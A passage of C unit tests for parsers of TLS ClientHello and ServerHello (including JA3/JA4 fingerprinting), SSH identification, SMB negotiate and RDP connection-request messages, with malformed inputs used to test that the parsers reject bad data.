    0x5e, 0x6e, 0x5a, 0x87, 0x5d, 0x6c, 0x08, 0x06, 0x4a, 0xd5, 0xb7, 0x6d, 0x44, 0xca, 0xad, 0x76,
    0x6e, 0x24, 0x83, 0x01, 0x27, 0x48, 0x00, 0x2b, 0x00, 0x05, 0x04, 0x03, 0x04, 0x03, 0x03, 0x00,
    0x0d, 0x00, 0x18, 0x00, 0x16, 0x04, 0x03, 0x05, 0x03, 0x06, 0x03, 0x08, 0x04, 0x08, 0x05, 0x08,
    0x06, 0x04, 0x01, 0x05, 0x01, 0x06, 0x01, 0x02, 0x03, 0x02, 0x01, 0x00, 0x2d, 0x00, 0x02, 0x01,
    0x01, 0x00, 0x1c, 0x00, 0x02, 0x40, 0x01, 0x00, 0x15, 0x00, 0x7a, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x00, 0x00,
};

static uint8_t tls_scratch[16384];
static net_tls_hello hello;

static net_proto_rc tls_client(const uint8_t *p, size_t n)
{
    net_proto_rc rc = net_tls_client_hello_parse(p, n, tls_scratch, sizeof tls_scratch, &hello);
    CHECK(!hello.ja4[0]); /* fingerprints only when asked for */
    net_tls_hello_fingerprint(&hello);
    return rc;
}

typedef struct hello_spec {
    uint16_t version;
    const uint16_t *ciphers, *exts, *groups, *sigalgs, *versions;
    size_t nc, ne, ng, ns, nv;
    const char *sni;
    const uint8_t *alpn;   /* first ALPN name, raw */
    size_t alpn_len;
    bool no_exts;
} hello_spec;

#define CIPHERS(a) .ciphers = a, .nc = sizeof a / sizeof a[0]

static void put_u16s(bb *b, size_t k, const uint16_t *v, size_t n)
{
    size_t m = hold(b, k);
    for (size_t i = 0; i < n; i++)
        put16(b, v[i]);
    fill_len(b, m, k);
}

static void put_ext_body(bb *b, const hello_spec *h, uint16_t type)
{
    size_t m, m2;
    switch (type) {
    case 0x0000:
        m = hold(b, 2);
        put8(b, 0);
        m2 = hold(b, 2);
        puts_(b, h->sni);
        fill_len(b, m2, 2);
        fill_len(b, m, 2);
        break;
    case 0x0010:
        m = hold(b, 2);
        put8(b, (unsigned)h->alpn_len);
        putn(b, h->alpn, h->alpn_len);
        puts_(b, "\x08http/1.1");
        fill_len(b, m, 2);
        break;
    case 0x000a:
        put_u16s(b, 2, h->groups, h->ng);
        break;
    case 0x000b:
        put8(b, 1), put8(b, 0);
        break;
    case 0x000d:
        put_u16s(b, 2, h->sigalgs, h->ns);
        break;
    case 0x002b:
        m = hold(b, 1);
        for (size_t i = 0; i < h->nv; i++)
            put16(b, h->versions[i]);
        fill_len(b, m, 1);
        break;
    default:
        break;
    }
}

/* Record, handshake header and ClientHello body for the spec. */
static void build_hello(bb *b, const hello_spec *h)
{
    b->n = 0;
    put8(b, 22), put16(b, 0x0301);
    size_t rec = hold(b, 2);
    put8(b, 1);
    size_t hs = hold(b, 3);
    put16(b, h->version);
    for (int i = 0; i < 32; i++)
        put8(b, (unsigned)i);
    put8(b, 32);
    for (int i = 0; i < 32; i++)
        put8(b, 0xaa);
    put_u16s(b, 2, h->ciphers, h->nc);
    put8(b, 1), put8(b, 0);
    if (!h->no_exts) {
        size_t all = hold(b, 2);
        for (size_t i = 0; i < h->ne; i++) {
            put16(b, h->exts[i]);
            size_t m = hold(b, 2);
            put_ext_body(b, h, h->exts[i]);
            fill_len(b, m, 2);
        }
        fill_len(b, all, 2);
    }
    fill_len(b, hs, 3);
    fill_len(b, rec, 2);
}

/* The example of FoxIO-LLC/ja4 technical_details/JA4.md, with GREASE values added. */
static const uint16_t spec_ciphers[] = {0x0a0a, 0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9,
                                        0xcca8, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035};
static const uint16_t spec_exts[] = {0x1a1a, 0x001b, 0x0000, 0x0033, 0x0010, 0x4469, 0x0017, 0x002d, 0x000d,
                                     0x0005, 0x0023, 0x0012, 0x002b, 0xff01, 0x000b, 0x000a, 0x2a2a, 0x0015};
static const uint16_t spec_sigalgs[] = {0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601};
static const uint16_t spec_groups[] = {0x4a4a, 0x001d, 0x0017, 0x0018};
static const uint16_t spec_versions[] = {0x3a3a, 0x0304, 0x0303};

static hello_spec ja4_spec(void)
{
    return (hello_spec){.version = 0x0303, CIPHERS(spec_ciphers), .exts = spec_exts,
                        .ne = sizeof spec_exts / 2, .groups = spec_groups, .ng = 4, .sigalgs = spec_sigalgs,
                        .ns = 8, .versions = spec_versions, .nv = 3, .sni = "example.com",
                        .alpn = U8("h2"), .alpn_len = 2};
}

static void test_tls_real_hello(void)
{
    CHECK(tls_client(firefox_hello, sizeof firefox_hello) == NET_PROTO_OK);
    CHECK_STR(hello.sni, "contile.services.mozilla.com");
    CHECK_STR(hello.ja4, "t13d1715h2_5b57614c22b0_3d5424432f57");
    CHECK_CONTAINS(hello.ja3, "771,4865-4867-4866-49195-49199-52393-52392-49196-49200-49162-49161-49171-49172-"
                              "156-157-47-53,0-23-65281-10-11-35-16-5-34-51-43-13-45-28-21,");
    CHECK(strncmp(hello.ja3, "771,", 4) == 0);
    CHECK_INT(strlen(hello.ja3_md5), 32);
    CHECK_STR(hello.alpn[0], "h2");
    CHECK(hello.record_version == 0x0301 && hello.version == 0x0303);
    CHECK(hello.nversions >= 1 && hello.versions[0] == 0x0304);
    CHECK_INT(hello.nciphers, 17);
    CHECK_INT(hello.nexts, 15);
    CHECK(hello.ngroups > 0 && hello.nformats > 0 && hello.nsigalgs == 11);
    CHECK_INT(prefixes_partial(tls_client, firefox_hello, sizeof firefox_hello), 0);
    /* a prefix that has passed the SNI extension already names the server */
    CHECK(tls_client(firefox_hello, 200) == NET_PROTO_PARTIAL);
    CHECK_STR(hello.sni, "contile.services.mozilla.com");
    CHECK_STR(hello.ja4, "");
    /* the same hello split over two records at several places */
    size_t hs = sizeof firefox_hello - 5;
    size_t cuts[] = {1, 3, 4, 5, 100, 300, hs - 1};
    for (size_t i = 0; i < sizeof cuts / sizeof cuts[0]; i++) {
        bb b = {.n = 0};
        size_t c = cuts[i];
        put8(&b, 22), put16(&b, 0x0301), put16(&b, (unsigned)c);
        putn(&b, firefox_hello + 5, c);
        put8(&b, 22), put16(&b, 0x0301), put16(&b, (unsigned)(hs - c));
        putn(&b, firefox_hello + 5 + c, hs - c);
        CHECK(tls_client(b.b, b.n) == NET_PROTO_OK);
        CHECK_STR(hello.ja4, "t13d1715h2_5b57614c22b0_3d5424432f57");
        CHECK_INT(prefixes_partial(tls_client, b.b, b.n), 0);
        /* the second record is not a handshake record */
        b.b[5 + c] = 23;
        CHECK(tls_client(b.b, b.n) == NET_PROTO_MALFORMED);
        CHECK(hello.why == NET_WHY_TLS_RECORD);
    }
    /* a scratch too small for the hello: PARTIAL */
    CHECK(net_tls_client_hello_parse(firefox_hello, sizeof firefox_hello, tls_scratch, 100, &hello) ==
          NET_PROTO_PARTIAL);
}

/* A ClientHello captured here: `openssl s_client -connect 127.0.0.1:PORT -servername
 * keepwatch.test -alpn h2,http/1.1` (OpenSSL 3.0.19) against a Python socket on loopback
 * that kept the first record. Its JA3 and JA4 below were computed from these bytes by a
 * separate throwaway Python script written from the two specs (hashlib), not by this code. */
static const uint8_t openssl_hello[] = {
    0x16, 0x03, 0x01, 0x01, 0x4d, 0x01, 0x00, 0x01, 0x49, 0x03, 0x03, 0x77, 0xef, 0xa4, 0xe0, 0x69,
    0xcf, 0x97, 0x5e, 0xfb, 0x63, 0xb9, 0xbe, 0x90, 0x35, 0xc8, 0x63, 0x70, 0x94, 0xdd, 0x12, 0x05,
    0x1f, 0x56, 0x70, 0xb0, 0x2b, 0xdb, 0x5f, 0x64, 0x22, 0x35, 0x37, 0x20, 0x64, 0xb4, 0xac, 0x13,
    0x67, 0xb5, 0xa3, 0xc6, 0x0c, 0xa1, 0x1a, 0x59, 0x3d, 0x13, 0x19, 0x3a, 0xf0, 0x6d, 0x51, 0xa5,
    0x54, 0x12, 0x53, 0x06, 0x39, 0x60, 0x0b, 0x70, 0x56, 0x00, 0x39, 0xcd, 0x00, 0x3e, 0x13, 0x02,
    0x13, 0x03, 0x13, 0x01, 0xc0, 0x2c, 0xc0, 0x30, 0x00, 0x9f, 0xcc, 0xa9, 0xcc, 0xa8, 0xcc, 0xaa,
    0xc0, 0x2b, 0xc0, 0x2f, 0x00, 0x9e, 0xc0, 0x24, 0xc0, 0x28, 0x00, 0x6b, 0xc0, 0x23, 0xc0, 0x27,
    0x00, 0x67, 0xc0, 0x0a, 0xc0, 0x14, 0x00, 0x39, 0xc0, 0x09, 0xc0, 0x13, 0x00, 0x33, 0x00, 0x9d,
    0x00, 0x9c, 0x00, 0x3d, 0x00, 0x3c, 0x00, 0x35, 0x00, 0x2f, 0x00, 0xff, 0x01, 0x00, 0x00, 0xc2,
    0x00, 0x00, 0x00, 0x13, 0x00, 0x11, 0x00, 0x00, 0x0e, 0x6b, 0x65, 0x65, 0x70, 0x77, 0x61, 0x74,
    0x63, 0x68, 0x2e, 0x74, 0x65, 0x73, 0x74, 0x00, 0x0b, 0x00, 0x04, 0x03, 0x00, 0x01, 0x02, 0x00,
    0x0a, 0x00, 0x16, 0x00, 0x14, 0x00, 0x1d, 0x00, 0x17, 0x00, 0x1e, 0x00, 0x19, 0x00, 0x18, 0x01,
    0x00, 0x01, 0x01, 0x01, 0x02, 0x01, 0x03, 0x01, 0x04, 0x00, 0x23, 0x00, 0x00, 0x00, 0x10, 0x00,
    0x0e, 0x00, 0x0c, 0x02, 0x68, 0x32, 0x08, 0x68, 0x74, 0x74, 0x70, 0x2f, 0x31, 0x2e, 0x31, 0x00,
    0x16, 0x00, 0x00, 0x00, 0x17, 0x00, 0x00, 0x00, 0x0d, 0x00, 0x2a, 0x00, 0x28, 0x04, 0x03, 0x05,
    0x03, 0x06, 0x03, 0x08, 0x07, 0x08, 0x08, 0x08, 0x09, 0x08, 0x0a, 0x08, 0x0b, 0x08, 0x04, 0x08,
    0x05, 0x08, 0x06, 0x04, 0x01, 0x05, 0x01, 0x06, 0x01, 0x03, 0x03, 0x03, 0x01, 0x03, 0x02, 0x04,
    0x02, 0x05, 0x02, 0x06, 0x02, 0x00, 0x2b, 0x00, 0x09, 0x08, 0x03, 0x04, 0x03, 0x03, 0x03, 0x02,
    0x03, 0x01, 0x00, 0x2d, 0x00, 0x02, 0x01, 0x01, 0x00, 0x33, 0x00, 0x26, 0x00, 0x24, 0x00, 0x1d,
    0x00, 0x20, 0x55, 0x67, 0x58, 0x4c, 0x53, 0x37, 0x35, 0xc9, 0x52, 0xe2, 0x64, 0x00, 0xaa, 0xe6,
    0x2d, 0xe2, 0xf6, 0x6a, 0x78, 0x98, 0xcf, 0xfb, 0xab, 0x26, 0x22, 0xb6, 0x9a, 0x34, 0xf5, 0x0a,
    0x05, 0x12,
};

static void test_tls_openssl_hello(void)
{
    CHECK(tls_client(openssl_hello, sizeof openssl_hello) == NET_PROTO_OK);
    CHECK_STR(hello.sni, "keepwatch.test");
    CHECK_STR(hello.alpn[0], "h2");
    CHECK_STR(hello.alpn[1], "http/1.1");
    CHECK_STR(hello.ja3, "771,4866-4867-4865-49196-49200-159-52393-52392-52394-49195-49199-158-49188-49192-107-"
                         "49187-49191-103-49162-49172-57-49161-49171-51-157-156-61-60-53-47-255,"
                         "0-11-10-35-16-22-23-13-43-45-51,29-23-30-25-24-256-257-258-259-260,0-1-2");
    CHECK_STR(hello.ja3_md5, "5a1edc7f170af1014fc65c994878e63c");
    CHECK_STR(hello.ja4, "t13d3111h2_e8f1e7e78f70_1f22a2ca17c4");
    CHECK_INT(prefixes_partial(tls_client, openssl_hello, sizeof openssl_hello), 0);
}

static void test_tls_spec_examples(void)
{
    bb b;
    hello_spec h = ja4_spec();
    build_hello(&b, &h);
    CHECK(tls_client(b.b, b.n) == NET_PROTO_OK);
    CHECK_STR(hello.ja4, "t13d1516h2_8daaf6152771_e5627efa2ab1");
    CHECK(net_tls_is_grease(hello.ciphers[0]) && net_tls_is_grease(0xfafa) && !net_tls_is_grease(0x0a1a));
    /* signature_algorithms present but empty: no '_' part (the spec's 6d807ffa2a79) */
    h.ns = 0;
    build_hello(&b, &h);
    CHECK(tls_client(b.b, b.n) == NET_PROTO_OK);
    CHECK_STR(hello.ja4, "t13d1516h2_8daaf6152771_6d807ffa2a79");
    /* ALPN values that are not alphanumeric: the hex rule of the spec */
    h = ja4_spec();
    h.alpn = U8("\xab\xcd");
    build_hello(&b, &h);
    CHECK(tls_client(b.b, b.n) == NET_PROTO_OK);
    CHECK(strncmp(hello.ja4, "t13d1516ad_", 11) == 0);
    h.alpn = U8("\x30\xab");
    build_hello(&b, &h);
    CHECK(tls_client(b.b, b.n) == NET_PROTO_OK);
    CHECK(strncmp(hello.ja4, "t13d15163b_", 11) == 0);
    h.alpn = U8("h");
    h.alpn_len = 1;
    build_hello(&b, &h);
    CHECK(tls_client(b.b, b.n) == NET_PROTO_OK);
    CHECK(strncmp(hello.ja4, "t13d1516hh_", 11) == 0);
    /* no SNI, no ALPN, no supported_versions: an IP destination over TLS 1.2 */
    static const uint16_t exts12[] = {0x000a, 0x000b, 0x000d};
    h = ja4_spec();
    h.exts = exts12, h.ne = 3;
    build_hello(&b, &h);
    CHECK(tls_client(b.b, b.n) == NET_PROTO_OK);
    CHECK(strncmp(hello.ja4, "t12i150300_8daaf6152771_", 24) == 0);
    CHECK(!hello.has_sni);
    /* the JA3 examples of salesforce/ja3 README.md */
    static const uint16_t c1[] = {47, 53, 5, 10, 49161, 49162, 49171, 49172, 50, 56, 19, 4};
    static const uint16_t e1[] = {0, 10, 11}, g1[] = {23, 24, 25};
    h = (hello_spec){.version = 0x0301, CIPHERS(c1), .exts = e1, .ne = 3, .groups = g1, .ng = 3, .sni = "a.example"};
    build_hello(&b, &h);
    CHECK(tls_client(b.b, b.n) == NET_PROTO_OK);
    CHECK_STR(hello.ja3, "769,47-53-5-10-49161-49162-49171-49172-50-56-19-4,0-10-11,23-24-25,0");
    CHECK_STR(hello.ja3_md5, "ada70206e40642a3e4461f35503241d5");
    static const uint16_t c2[] = {4, 5, 10, 9, 100, 98, 3, 6, 19, 18, 99};
    h = (hello_spec){.version = 0x0301, CIPHERS(c2), .no_exts = true};
    build_hello(&b, &h);
    CHECK(tls_client(b.b, b.n) == NET_PROTO_OK);
    CHECK_STR(hello.ja3, "769,4-5-10-9-100-98-3-6-19-18-99,,,");
    CHECK_STR(hello.ja3_md5, "de350869b8c85de67a350c8d186f11e6");
    CHECK(strncmp(hello.ja4, "t10i110000_", 11) == 0);
    CHECK(strstr(hello.ja4, "_000000000000") != NULL);
}

static void test_tls_hostile(void)
{
    bb b;
    CHECK(tls_client(U8("\x17\x03\x03\x00\x10"), 5) == NET_PROTO_NOT_MINE);
    CHECK(tls_client(U8("GET / HTTP/1.1\r\n"), 16) == NET_PROTO_NOT_MINE);
    CHECK(tls_client(U8("\x16\x03\x01\x00\x00"), 5) == NET_PROTO_MALFORMED);
    CHECK(hello.why == NET_WHY_TLS_RECORD);
    CHECK(tls_client(U8("\x16\x03\x01\x00\x04\x02\x00\x00\x30"), 9) == NET_PROTO_NOT_MINE);
    CHECK(tls_client(U8("\x16\x03\x01\x00\x04\x01\x10\x00\x00"), 9) == NET_PROTO_MALFORMED);
    CHECK(hello.why == NET_WHY_TLS_HANDSHAKE_LENGTH);
    CHECK(tls_client(U8("\x16\x03\x01\x48\x01"), 5) == NET_PROTO_MALFORMED);
    hello_spec h = ja4_spec();
    /* an odd cipher vector */
    build_hello(&b, &h);
    b.b[77]++;
    CHECK(tls_client(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(hello.why == NET_WHY_TLS_VECTOR);
    /* a session id over 32 bytes */
    build_hello(&b, &h);
    b.b[43] = 33;
    CHECK(tls_client(b.b, b.n) == NET_PROTO_MALFORMED);
    /* an SNI list longer than its extension */
    static const uint16_t sni_only[] = {0x0000};
    h.exts = sni_only, h.ne = 1;
    build_hello(&b, &h);
    size_t list = 5 + 4 + 2 + 32 + 33 + 2 + h.nc * 2 + 2 + 2 + 4;
    CHECK(b.b[list + 1] == strlen("example.com") + 3);
    b.b[list + 1] += 5;
    CHECK(tls_client(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(hello.why == NET_WHY_TLS_EXTENSION);
    /* an empty server_name extension still says SNI is there */
    build_hello(&b, &h);
    b.b[list - 1] = 0, b.b[list - 2] = 0;
    b.b[list - 5] = 4, b.b[list - 6] = 0;
    b.n = list;
    b.b[3] = (uint8_t)((b.n - 5) >> 8), b.b[4] = (uint8_t)(b.n - 5);
    b.b[7] = (uint8_t)((b.n - 9) >> 8), b.b[8] = (uint8_t)(b.n - 9);
    CHECK(tls_client(b.b, b.n) == NET_PROTO_OK);
    CHECK(hello.has_sni && hello.sni[0] == '\0');
    /* an extension longer than the extensions block */
    build_hello(&b, &h);
    b.b[list - 1] += 40;
    CHECK(tls_client(b.b, b.n) == NET_PROTO_MALFORMED);
    /* 700 ciphers: the first 512 kept, flagged */
    static uint16_t many[700];
    for (size_t i = 0; i < 700; i++)
        many[i] = (uint16_t)(i + 1);
    h = ja4_spec();
    h.ciphers = many, h.nc = 700;
    build_hello(&b, &h);
    CHECK(tls_client(b.b, b.n) == NET_PROTO_OK);
    CHECK(hello.truncated_lists && hello.nciphers == NET_TLS_MAX_CIPHERS);
    CHECK(strncmp(hello.ja4, "t13d9916h2_", 11) == 0);
}

static net_tls_server_hello shello;

static net_proto_rc tls_server(const uint8_t *p, size_t n)
{
    return net_tls_server_hello_parse(p, n, &shello);
}

static void build_server_hello(bb *b, bool hrr)
{
    static const uint8_t hrr_random[32] = {
        0xcf, 0x21, 0xad, 0x74, 0xe5, 0x9a, 0x61, 0x11, 0xbe, 0x1d, 0x8c, 0x02, 0x1e, 0x65, 0xb8, 0x91,
        0xc2, 0xa2, 0x11, 0x16, 0x7a, 0xbb, 0x8c, 0x5e, 0x07, 0x9e, 0x09, 0xe2, 0xc8, 0xa8, 0x33, 0x9c,
    };  /* RFC 8446 section 4.1.3 */
    b->n = 0;
    put8(b, 22), put16(b, 0x0303);
    size_t rec = hold(b, 2);
    put8(b, 2);
    size_t hs = hold(b, 3);
    put16(b, 0x0303);
    for (int i = 0; i < 32; i++)
        put8(b, hrr ? hrr_random[i] : (unsigned)i);
    put8(b, 0);
    put16(b, 0x1301);
    put8(b, 0);
    size_t all = hold(b, 2);
    put16(b, 0x0033), put16(b, 36), put16(b, 0x001d), put16(b, 32);
    for (int i = 0; i < 32; i++)
        put8(b, 7);
    put16(b, 0x002b), put16(b, 2), put16(b, 0x0304);
    fill_len(b, all, 2);
    fill_len(b, hs, 3);
    fill_len(b, rec, 2);
}

static void test_tls_server_hello(void)
{
    bb b;
    build_server_hello(&b, false);
    CHECK(tls_server(b.b, b.n) == NET_PROTO_OK);
    CHECK_INT(shello.version, 0x0304);
    CHECK_INT(shello.cipher, 0x1301);
    CHECK(!shello.hello_retry);
    CHECK_INT(prefixes_partial(tls_server, b.b, b.n), 0);
    build_server_hello(&b, true);
    CHECK(tls_server(b.b, b.n) == NET_PROTO_OK);
    CHECK(shello.hello_retry);
    CHECK(tls_server(firefox_hello, sizeof firefox_hello) == NET_PROTO_NOT_MINE);
}

/* ---- SSH ---- */

static net_ssh_ident ssh;

static net_proto_rc ssh_parse(const uint8_t *p, size_t n)
{
    return net_ssh_ident_parse(p, n, &ssh);
}

static void test_ssh(void)
{
    const char *m = "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.1\r\n";
    CHECK(ssh_parse(U8(m), strlen(m)) == NET_PROTO_OK);
    CHECK_SLICE(ssh.proto, "2.0");
    CHECK_SLICE(ssh.software, "OpenSSH_8.9p1");
    CHECK_SLICE(ssh.comments, "Ubuntu-3ubuntu0.1");
    CHECK_STR(ssh.family, "openssh");
    CHECK_INT(ssh.used, strlen(m));
    CHECK_INT(prefixes_partial(ssh_parse, U8(m), strlen(m)), 0);
    static const struct {
        const char *line, *software, *family;
    } clients[] = {
        {"SSH-2.0-libssh_0.9.6\r\n", "libssh_0.9.6", "libssh"},
        {"SSH-2.0-libssh-0.6.0\r\n", "libssh-0.6.0", "libssh"},
        {"SSH-2.0-libssh2_1.10.0\r\n", "libssh2_1.10.0", "libssh2"},
        {"SSH-2.0-paramiko_3.4.0\r\n", "paramiko_3.4.0", "paramiko"},
        {"SSH-2.0-Go\r\n", "Go", "go"},
        {"SSH-2.0-PuTTY_Release_0.78\r\n", "PuTTY_Release_0.78", "putty"},
        {"SSH-2.0-dropbear_2022.83\r\n", "dropbear_2022.83", "dropbear"},
        {"SSH-2.0-AsyncSSH_2.13.2\r\n", "AsyncSSH_2.13.2", "asyncssh"},
        {"SSH-2.0-Gopher\r\n", "Gopher", "other"},
        {"SSH-1.99-Cisco-1.25\n", "Cisco-1.25", "cisco"},
    };
    for (size_t i = 0; i < sizeof clients / sizeof clients[0]; i++) {
        CHECK(ssh_parse(U8(clients[i].line), strlen(clients[i].line)) == NET_PROTO_OK);
        CHECK_SLICE(ssh.software, clients[i].software);
        CHECK_STR(ssh.family, clients[i].family);
        CHECK(ssh.comments.n == 0);
    }
    CHECK_SLICE(ssh.proto, "1.99");
    CHECK(ssh_parse(U8("HTTP/1.1 400\r\n"), 14) == NET_PROTO_NOT_MINE);
    CHECK(ssh_parse(U8("SSH-2.0\r\n"), 9) == NET_PROTO_MALFORMED);
    CHECK(ssh.why == NET_WHY_SSH_SYNTAX);
    CHECK(ssh_parse(U8("SSH--x\r\n"), 8) == NET_PROTO_MALFORMED);
    CHECK(ssh_parse(U8("SSH-2.0-a\0b\r\n"), 13) == NET_PROTO_MALFORMED);
    CHECK(ssh.why == NET_WHY_SSH_LINE);
    char longl[400];
    memset(longl, 'x', sizeof longl);
    memcpy(longl, "SSH-2.0-", 8);
    CHECK(ssh_parse(U8(longl), sizeof longl) == NET_PROTO_MALFORMED);
    CHECK(ssh_parse(U8(longl), 200) == NET_PROTO_PARTIAL);
}

/* ---- SMB ---- */

static net_smb_negotiate smb;

static net_proto_rc smb_parse(const uint8_t *p, size_t n)
{
    return net_smb_negotiate_parse(p, n, &smb);
}

/* An SMB1 NEGOTIATE request offering the given NUL-separated dialects. */
static void build_smb1(bb *b, const char *const *dialects, size_t nd)
{
    b->n = 0;
    put8(b, 0);
    size_t nb = hold(b, 3);
    putn(b, "\xffSMB\x72", 5);
    for (int i = 0; i < 27; i++)
        put8(b, i == 4 ? 0x18 : 0);   /* status, flags (canonical paths), flags2, ... mid */
    put8(b, 0);                        /* WordCount */
    size_t bc = b->n;
    put16le(b, 0);
    for (size_t i = 0; i < nd; i++) {
        put8(b, 2);
        putn(b, dialects[i], strlen(dialects[i]) + 1);
    }
    size_t len = b->n - bc - 2;
    b->b[bc] = (uint8_t)len, b->b[bc + 1] = (uint8_t)(len >> 8);
    fill_len(b, nb, 3);
}

static void build_smb2(bb *b, bool response, const uint16_t *d, size_t nd)
{
    b->n = 0;
    put8(b, 0);
    size_t nb = hold(b, 3);
    putn(b, "\xfeSMB", 4);
    put16le(b, 64);
    for (int i = 0; i < 58; i++)
        put8(b, i == 10 && response ? 1 : 0);   /* byte 16 of the header: flags */
    if (response) {
        put16le(b, 65), put16le(b, 1), put16le(b, d[0]);
        for (int i = 0; i < 58; i++)
            put8(b, 0);
    } else {
        put16le(b, 36), put16le(b, (unsigned)nd), put16le(b, 1), put16le(b, 0);
        for (int i = 0; i < 28; i++)
            put8(b, 0x11);
        for (size_t i = 0; i < nd; i++)
            put16le(b, d[i]);
    }
    fill_len(b, nb, 3);
}

static void test_smb(void)
{
    /* the dialects an nmap smb-protocols or an old Windows client offers */
    static const char *const old[] = {"PC NETWORK PROGRAM 1.0", "LANMAN1.0", "Windows for Workgroups 3.1a",
                                      "LM1.2X002", "LANMAN2.1", "NT LM 0.12", "SMB 2.002", "SMB 2.???"};
    bb b;
    build_smb1(&b, old, 8);
    CHECK(smb_parse(b.b, b.n) == NET_PROTO_OK);
    CHECK(smb.version == 1 && !smb.response && smb.smb1_offered);
    CHECK_INT(smb.ndialects, 8);
    CHECK_SLICE(smb.smb1_dialects[5], "NT LM 0.12");
    CHECK_SLICE(smb.smb1_dialects[7], "SMB 2.???");
    CHECK_INT(prefixes_partial(smb_parse, b.b, b.n), 0);
    static const char *const only2[] = {"SMB 2.002", "SMB 2.???"};
    build_smb1(&b, only2, 2);
    CHECK(smb_parse(b.b, b.n) == NET_PROTO_OK);
    CHECK(!smb.smb1_offered && smb.ndialects == 2);
    static const uint16_t d2[] = {0x0202, 0x0210, 0x0300, 0x0302, 0x0311};
    build_smb2(&b, false, d2, 5);
    CHECK(smb_parse(b.b, b.n) == NET_PROTO_OK);
    CHECK(smb.version == 2 && !smb.response && !smb.smb1_offered);
    CHECK_INT(smb.ndialects, 5);
    CHECK_INT(smb.dialects[4], 0x0311);
    CHECK_INT(prefixes_partial(smb_parse, b.b, b.n), 0);
    build_smb2(&b, true, d2 + 4, 1);
    CHECK(smb_parse(b.b, b.n) == NET_PROTO_OK);
    CHECK(smb.response && smb.chosen == 0x0311);
    /* hostile: byte count past the message, a dialect without its NUL, a bad buffer format,
       a wrong structure size, no dialects, another command, not SMB at all */
    build_smb1(&b, old, 8);
    b.b[37]++;
    CHECK(smb_parse(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(smb.why == NET_WHY_SMB_HEADER);
    build_smb1(&b, old, 1);
    b.b[b.n - 1] = 'X';
    CHECK(smb_parse(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(smb.why == NET_WHY_SMB_DIALECTS);
    build_smb1(&b, old, 1);
    b.b[39] = 3;
    CHECK(smb_parse(b.b, b.n) == NET_PROTO_MALFORMED);
    build_smb1(&b, old, 0);
    CHECK(smb_parse(b.b, b.n) == NET_PROTO_MALFORMED);
    build_smb2(&b, false, d2, 5);
    b.b[8] = 63;
    CHECK(smb_parse(b.b, b.n) == NET_PROTO_MALFORMED);
    build_smb2(&b, false, d2, 5);
    b.b[4 + 12] = 1;
    CHECK(smb_parse(b.b, b.n) == NET_PROTO_NOT_MINE);
    build_smb2(&b, false, d2, 5);
    b.b[3] -= 4;                      /* NetBIOS length cuts the dialect list */
    CHECK(smb_parse(b.b, b.n) == NET_PROTO_MALFORMED);
    CHECK(smb.why == NET_WHY_SMB_DIALECTS);
    CHECK(smb_parse(U8("\x00\x00\x00\x10\xfdSMB"), 8) == NET_PROTO_NOT_MINE);
    CHECK(smb_parse(U8("\x00\x00\x00\x10\xfeSMB\x40"), 9) == NET_PROTO_MALFORMED);
    CHECK(smb.why == NET_WHY_SMB_NETBIOS);
    CHECK(smb_parse(U8("\x85\x00\x00\x00"), 4) == NET_PROTO_NOT_MINE);
}

/* ---- RDP ---- */

static net_rdp_cr rdp;

static net_proto_rc rdp_parse(const uint8_t *p, size_t n)
{
    return net_rdp_cr_parse(p, n, &rdp);
}

static void build_rdp(bb *b, const char *line, bool neg, uint32_t protocols)
{
    b->n = 0;
    put8(b, 3), put8(b, 0);
    size_t tl = hold(b, 2);
    size_t li = hold(b, 1);
    put8(b, 0xe0), put16(b, 0), put16(b, 0), put8(b, 0);
    if (line)
        puts_(b, line);
    if (neg) {
        put8(b, 1), put8(b, 0), put16le(b, 8);
        put16le(b, protocols & 0xffff), put16le(b, protocols >> 16);
    }
    b->b[tl] = (uint8_t)(b->n >> 8), b->b[tl + 1] = (uint8_t)b->n;
    b->b[li] = (uint8_t)(b->n - 5);
}

static void test_rdp(void)
{
    bb b;
    build_rdp(&b, "Cookie: mstshash=administr\r\n", true, NET_RDP_PROTO_SSL | NET_RDP_PROTO_HYBRID);
    CHECK(b.b[3] == b.n);
    CHECK(rdp_parse(b.b, b.n) == NET_PROTO_OK);
    CHECK(!rdp.confirm);
    CHECK_SLICE(rdp.cookie, "administr");
    CHECK(rdp.has_neg && rdp.neg_type == 1);
    CHECK_INT(rdp.protocols, 3);
    CHECK_STR(net_rdp_proto_str(NET_RDP_PROTO_HYBRID), "credssp");
    CHECK_INT(prefixes_partial(rdp_parse, b.b, b.n), 0);
    build_rdp(&b, "Cookie: msts=3640205228.15629.0000\r\n", true, 0);
    CHECK(rdp_parse(b.b, b.n) == NET_PROTO_OK);
    CHECK_SLICE(rdp.token, "Cookie: msts=3640205228.15629.0000");
    CHECK(rdp.cookie.n == 0 && rdp.protocols == 0);
    build_rdp(&b, NULL, true, NET_RDP_PROTO_HYBRID_EX);
